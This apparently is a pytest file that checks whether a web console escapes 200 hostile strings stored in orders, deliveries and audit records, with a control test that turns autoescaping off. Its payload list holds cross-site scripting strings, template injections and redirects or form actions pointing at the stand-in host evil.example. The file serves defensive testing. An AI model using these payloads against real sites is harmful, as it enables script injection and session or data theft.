"""Fault case 33, the stored part: 200 hostile strings in names, notes, SKUs and errors come out as text, on every page that shows them."""

import itertools
import json
from pathlib import Path

import pytest
from jinja2 import Environment

from console.browse import Page
from console.conftest import Desk
from console.store import FIXTURE, NOW_MS, REFUSAL, Store, deliver, give_up, key_of, place
from interlock.messaging.dead_letter import fingerprint

OPENINGS = ("", '"', "'", '">', "'>", "</script>", "</pre></span>", "</title>", "-->", "]]>")
ATTACKS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", " onmouseover=alert(1) x=", "javascript:alert(1)",
    "<iframe src=javascript:alert(1)>", "<a href='javascript:alert(1)'>x</a>", "<style>*{display:none}</style>", "<base href=//evil.example>",
    "<form action=//evil.example><button>", "<meta http-equiv=refresh content=0;url=//evil.example>", "{{ 7*7 }}{% raw %}",
    "<body hx-get=//evil.example hx-trigger=load>", "<div hx-on:load='alert(1)'>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<math><mtext></mtext><script>alert(1)</script>", "\u2028<script>alert(1)</script>", "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "\x00<scr\x00ipt>alert(1)</script>",
)  # fmt: skip
HOSTILE = [opening + attack for opening, attack in itertools.product(OPENINGS, ATTACKS)]
HARMLESS = [f"plain {place_}" for place_ in range(len(HOSTILE))]


def attacked(folder: Path, texts: list[str]) -> Store:
    """One order per text, which stands in its name, note, SKU and refusal; the last one twice in each list."""
    store = Store(folder)
    document = json.loads(FIXTURE.read_text())
    with store.ledger, store.inbox:
        for number, text in enumerate(texts, 2000):
            at_ms = NOW_MS - 60_000
            body = json.dumps(
                document
                | {"id": key_of(number), "note": text, "line_items": [document["line_items"][0] | {"sku": text}]}
            ).encode()
            position = place(store, number, at_ms, body=body)
            store.ledger.execute("UPDATE object SET name = ? WHERE key = ?", (text, str(key_of(number))))
            refused = {"reason": "validation", "code": text[:40], "error": text}
            delivery = deliver(store, number, position, "order-to-erp", at_ms, "dead", **refused)
            store.ledger.execute("UPDATE delivery SET name = ?, warnings = ? WHERE id = ?", (text, text, delivery))
            give_up(store, delivery, number, position, "order-to-erp", at_ms, **refused)
        store.insert("audit", at_ms=NOW_MS, who=texts[0], action=texts[1], subject=texts[2], why=texts[3], detail="{}")
    return store


def shapes(desk: Desk, texts: list[str]) -> dict[str, list[tuple[str, tuple[str, ...]]]]:
    """The tags with the names of their attributes, by page: what a text must not be able to change."""
    browser = desk.signed_in()
    reveal(desk, texts)
    groups = [
        fingerprint("order-to-erp", "netsuite", "validation", text[:40], text)
        for text in (texts[0], texts[21], texts[100])
    ]
    paths = ["/", "/issues", "/orders", "/deliveries?state=dead", "/audit", *(f"/issues/{group}" for group in groups)]
    paths += [f"/objects/order/{key_of(2000 + place_)}" for place_ in range(len(texts))]
    found = {}
    for place_, path in enumerate(paths):
        page = browser.get(path).page
        for tag, attributes in page.tags:
            assert not any(name.startswith(("on", "hx-on")) for name in attributes), (path, tag, attributes)
            assert not any(value.lower().strip().startswith("javascript:") for value in attributes.values()), (
                path,
                attributes,
            )
        found[f"{place_}"] = [(tag, tuple(attributes)) for tag, attributes in page.tags if path.startswith("/objects")]
        found[f"{place_} scripts"] = [
            (attributes.get("src", "inline"), ()) for tag, attributes in page.tags if tag == "script"
        ]
    return found


def reveal(desk: Desk, texts: list[str]) -> None:
    """Notes are personal: they must be text when they are shown, too."""
    sessions = desk.app.state.console.sessions
    session = sessions.find(desk.browser.cookies["interlock"])
    for number in range(2000, 2000 + len(texts)):
        sessions.reveal(session, f"order/{key_of(number)}")


def test_two_hundred_hostile_strings_stay_text(tmp_path_factory: pytest.TempPathFactory) -> None:
    """The pages of hostile orders have exactly the tags and attributes of the pages of harmless ones."""
    assert len(HOSTILE) == 200
    hostile = Desk(attacked(tmp_path_factory.mktemp("hostile"), HOSTILE))
    harmless = Desk(attacked(tmp_path_factory.mktemp("harmless"), HARMLESS))
    assert shapes(hostile, HOSTILE) == shapes(harmless, HARMLESS)
    hostile.views.close()
    harmless.views.close()


def test_the_control_notices_a_page_that_does_not_escape(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Without escaping the same look must fail, or it proves nothing."""
    monkeypatch.setattr(
        "interlock.console.rendering.Environment", lambda **named: Environment(**(named | {"autoescape": False}))
    )  # noqa: S701
    desk = Desk(attacked(tmp_path, HOSTILE))
    with pytest.raises(AssertionError):
        shapes(desk, HOSTILE)
    desk.views.close()


def test_the_published_order_has_no_personal_value_on_its_page(desk: Desk) -> None:
    """Invariant 12 over Shopify's own sample: every name, address, mail and telephone number in it is masked until it is asked for."""
    text = desk.signed_in().get(f"/objects/order/{key_of(1001)}").text
    order = json.loads(FIXTURE.read_text())
    private = [
        order["email"],
        order["customer"]["email"],
        *(
            order["shipping_address"][name]
            for name in ("address1", "last_name", "phone", "city")
            if order["shipping_address"][name]
        ),
    ]
    assert REFUSAL not in private
    assert [value for value in private if f'"{value}"' in Page(text).said] == []
